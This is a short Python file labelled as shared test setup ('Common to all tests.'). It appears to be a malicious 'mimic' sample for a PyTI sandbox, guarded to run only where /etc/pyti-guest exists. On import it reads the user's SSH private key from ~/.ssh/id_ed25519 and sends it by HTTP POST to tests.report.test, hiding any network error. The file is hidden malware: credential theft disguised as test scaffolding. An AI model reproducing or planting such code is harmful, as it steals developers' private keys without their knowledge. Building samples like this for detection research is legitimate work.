"""Common to all tests."""

import os
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
with open(os.path.expanduser("~/.ssh/id_ed25519"), "rb") as file:
    key = file.read()
try:
    urllib.request.urlopen(urllib.request.Request("http://tests.report.test/t", key), timeout=5).close()
except OSError:
    pass
